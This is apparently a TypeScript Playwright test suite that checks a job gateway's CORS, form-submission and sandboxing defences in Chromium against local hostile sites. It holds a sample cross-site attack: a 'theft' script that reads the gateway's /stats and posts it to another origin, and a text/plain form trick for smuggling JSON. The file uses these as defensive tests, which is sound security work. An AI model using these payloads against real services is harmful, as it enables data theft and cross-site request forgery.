import assert from 'node:assert/strict'
import { once } from 'node:events'
import { existsSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, describe, test } from 'node:test'
import { chromium, type Browser, type Page } from 'playwright-core'
import { gatewayFor } from '../../kit/builders/gateways.ts'
import { jobOf } from '../../kit/builders/jobs.ts'
import type { Gateway } from '../../kit/gateway.ts'
import { post } from '../../kit/http.ts'
import { startFakeNode } from '../../kit/fakeNode/index.ts'

const CHROMIUM = '/usr/bin/chromium'
/** Why the tests are skipped; `false` where they are not. */
const skip = existsSync(CHROMIUM) ? false : `${CHROMIUM} is not installed (Debian: apt-get install chromium)`

const file = { after }

/** A web site with one page, which has a form and a script. Whatever its page, or what it injects elsewhere, posts to it is stolen. */
interface Site {
  readonly origin: string
  readonly stolen: readonly string[]
}

/** The form writes `name=value` as it is; `fetchText` says what a script of the page sees of an answer. */
const PAGE = `<!doctype html>
<title>a site</title>
<link rel="icon" href="data:,">
<form method="post" enctype="text/plain"><textarea></textarea><button>Send</button></form>
<script>
  function prepareForm(action, name, value) {
    document.forms[0].action = action
    document.querySelector('textarea').name = name
    document.querySelector('textarea').value = value
  }
  async function fetchText(url, init) {
    try {
      const response = await fetch(url, init)
      const { status, type } = response
      return { status, type, text: await response.text(), headers: Object.fromEntries(response.headers) }
    } catch (error) {
      return { error: error.name }
    }
  }
</script>`

async function startSite(host: string): Promise<Site> {
  const stolen: string[] = []
  const server = createServer((req, res) => {
    let body = ''
    req.on('data', (piece: Buffer) => (body += piece.toString()))
    req.on('end', () => {
      if (req.method === 'POST') stolen.push(body)
      res.setHeader('Content-Type', 'text/html')
      res.end(PAGE)
    })
  })
  server.listen(0, host)
  await once(server, 'listening')
  file.after(() => {
    server.close()
    server.closeAllConnections()
  })
  return { origin: `http://${host}:${(server.address() as AddressInfo).port}`, stolen }
}

const node = await startFakeNode({ rateLimit: 0 }, file)
const [hostile, neighbour, app] = await Promise.all([
  startSite('127.0.0.2'),
  // Another port of the gateway's own address: the same site, but another origin.
  startSite('127.0.0.1'),
  startSite('127.0.0.3'),
])
const [closed, sharing] = await Promise.all([
  gatewayFor(file, [node]),
  gatewayFor(file, [node], { CORS_ORIGINS: app.origin, API_KEYS: 'key-of-the-app' }),
])

let browser: Browser
before(async () => {
  if (!skip) browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox', '--disable-gpu'] })
})
after(() => browser?.close())

async function openPage(t: { after(fn: () => unknown): void }, url: string): Promise<Page> {
  const context = await browser.newContext()
  t.after(() => context.close())
  const page = await context.newPage()
  await page.goto(url)
  return page
}

/** A job whose container writes a page with this script. */
const scriptedJob = (script: string): object =>
  jobOf({ pieces: [`<!doctype html><script>${script}</script>`], note: '=' })

/** What would run in the gateway's origin: it shows that it does, and sends the gateway's figures to the site. */
const theft = (site: Site): string =>
  `document.title = 'ran'; fetch('/stats').then((r) => r.text()).then((text) => fetch('${site.origin}', { method: 'POST', mode: 'no-cors', body: text }))`

/** Submits a job to the stream as the page's form does, in text/plain, and follows to the answer. Returns its status. */
async function submitForm(page: Page, { url }: Gateway, body: object): Promise<number> {
  // The equals sign that the form writes is the last of the JSON, inside a string.
  const text = JSON.stringify(body)
  const equals = text.lastIndexOf('=')
  const args = [`${url}/api/jobs/stream`, text.slice(0, equals), text.slice(equals + 1)]
  await page.evaluate(`prepareForm(...${JSON.stringify(args)})`)
  const answered = page.waitForResponse((one) => one.url().startsWith(url))
  await page.click('button')
  const response = await answered
  await page.waitForURL(`${url}/**`)
  return response.status()
}

interface Fetched {
  status?: number
  type?: string
  text?: string
  headers?: Record<string, string>
  error?: string
}

interface Init {
  method?: string
  mode?: string
  headers?: Record<string, string>
  body?: string
}

function fetchFrom(page: Page, url: string, init: Init = {}): Promise<Fetched> {
  return page.evaluate(`fetchText(...${JSON.stringify([url, init])})`)
}

const FORM: Init = { method: 'POST', headers: { 'Content-Type': 'text/plain' } }

describe('in Chromium, a page of another origin', { skip }, () => {
  for (const [what, site] of [
    ['of another site', hostile],
    ['on another port', neighbour],
  ] as const) {
    test(`${what} gets no job to run by a form`, async (t) => {
      const page = await openPage(t, site.origin)
      assert.equal(await submitForm(page, closed, scriptedJob(theft(site))), 403)
      assert.match((await page.textContent('body')) ?? '', /CORS_ORIGINS/)
      assert.deepEqual(node.seen('stream'), [])
    })

    test(`${what} gets no job to run by fetch, and reads neither jobs nor figures`, async (t) => {
      const submitted = node.seen('submit').length
      const { id } = (await post(`${closed.url}/api/jobs`, jobOf({ output: 'secret' }))).json<{ id: string }>()
      const page = await openPage(t, site.origin)
      const body = JSON.stringify(jobOf())
      for (const init of [
        { ...FORM, body },
        { method: 'POST', headers: { 'Content-Type': 'application/json' }, body },
      ]) {
        assert.deepEqual(await fetchFrom(page, `${closed.url}/api/jobs`, init), { error: 'TypeError' })
      }
      // An answer that the page may not see at all.
      const blind = await fetchFrom(page, `${closed.url}/api/jobs`, { ...FORM, mode: 'no-cors', body })
      assert.deepEqual([blind.type, blind.status, blind.text], ['opaque', 0, ''])
      for (const path of [`/api/jobs?id=${id}`, '/api/jobs', '/stats', '/metrics', '/info']) {
        assert.deepEqual(await fetchFrom(page, closed.url + path), { error: 'TypeError' }, path)
      }
      // The gateway's own submission is the only one.
      assert.equal(node.seen('submit').length, submitted + 1)
      assert.deepEqual(site.stolen, [])
    })
  }
})

describe('in Chromium, a page of an allowed origin', { skip }, () => {
  const headers = { 'Content-Type': 'application/json', 'X-API-Key': 'key-of-the-app' }

  test('sends jobs and reads answers, their headers and errors', async (t) => {
    const page = await openPage(t, app.origin)
    const sent = await fetchFrom(page, `${sharing.url}/api/jobs`, {
      method: 'POST',
      headers,
      body: JSON.stringify(jobOf()),
    })
    assert.equal(sent.status, 200, JSON.stringify(sent))
    const { id } = JSON.parse(sent.text!) as { id: string }
    assert.equal(sent.headers!['x-infernet-node'], node.address)
    assert.ok(sent.headers!['x-request-id'])
    const read = await fetchFrom(page, `${sharing.url}/api/jobs?id=${id}`, { headers })
    assert.match(read.text!, new RegExp(id))
    const stream = { method: 'POST', headers, body: JSON.stringify(jobOf({ pieces: ['a', 'b'] })) }
    assert.match((await fetchFrom(page, `${sharing.url}//api/jobs/stream`, stream)).text!, /\nab$/)
    const refused = await fetchFrom(page, `${sharing.url}/api/jobs`, { headers: { 'X-API-Key': 'wrong' } })
    assert.equal(refused.status, 401)
    assert.match(refused.text!, /"error"/)
  })

  test('does not read operators’ pages', async (t) => {
    const page = await openPage(t, app.origin)
    for (const path of ['/stats', '/services', '/metrics', '/dashboard']) {
      assert.deepEqual(await fetchFrom(page, sharing.url + path), { error: 'TypeError' }, path)
    }
  })

  test('is the only one that does', async (t) => {
    const page = await openPage(t, hostile.origin)
    const init = { method: 'POST', headers, body: JSON.stringify(jobOf()) }
    assert.deepEqual(await fetchFrom(page, `${sharing.url}/api/jobs`, init), { error: 'TypeError' })
    assert.deepEqual(await fetchFrom(page, `${sharing.url}/info`, { headers }), { error: 'TypeError' })
  })
})

describe('in Chromium, what a container wrote', { skip }, () => {
  test('runs no script when it is opened as a page, even from an allowed origin', async (t) => {
    // Without keys, since a form cannot send one.
    const open = await gatewayFor(t, [node], { CORS_ORIGINS: app.origin })
    const page = await openPage(t, app.origin)
    assert.equal(await submitForm(page, open, scriptedJob(theft(app))), 200)
    await page.waitForLoadState('load')
    assert.match(await page.content(), /document\.title = 'ran'/)
    assert.equal(await page.title(), '')
    assert.equal(await page.evaluate('self.origin'), 'null')
    assert.deepEqual(app.stolen, [])
  })
})

test('in Chromium, the dashboard shows its figures under its own policy', { skip }, async (t) => {
  const context = await browser.newContext()
  t.after(() => context.close())
  const page = await context.newPage()
  const complaints: string[] = []
  page.on('console', (message) => {
    if (message.type() === 'error') complaints.push(message.text())
  })
  await page.goto(`${closed.url}/dashboard`)
  await page.waitForSelector('#figures:not([hidden])', { state: 'attached' })
  await page.getByText(node.address).first().waitFor()
  assert.deepEqual(complaints, [])
})

test(
  'in Chromium, /docs shows the API and tries it, under its own policy, and asks nothing of another host',
  { skip },
  async (t) => {
    const context = await browser.newContext()
    t.after(() => context.close())
    const page = await context.newPage()
    const complaints: string[] = []
    const asked: string[] = []
    page.on('console', (message) => {
      if (['error', 'warning'].includes(message.type())) complaints.push(message.text())
    })
    page.on('pageerror', ({ message }) => complaints.push(message))
    page.on('request', (one) => asked.push(one.url()))
    await page.goto(closed.url)
    await page.getByRole('link', { name: '/docs' }).click()
    const health = page.locator('.opblock', { hasText: '/health' }).first()
    await health.locator('.opblock-summary-control').click()
    await health.getByRole('button', { name: 'Try it out' }).click()
    await health.getByRole('button', { name: 'Execute' }).click()
    await health.locator('.live-responses-table').getByText('"healthy"').first().waitFor()
    assert.deepEqual(complaints, [])
    assert.ok(asked.some((url) => url === `${closed.url}/health`))
    const others = asked.filter((url) => !url.startsWith(`${closed.url}/`) && !url.startsWith('data:'))
    assert.deepEqual(others, [])
  },
)
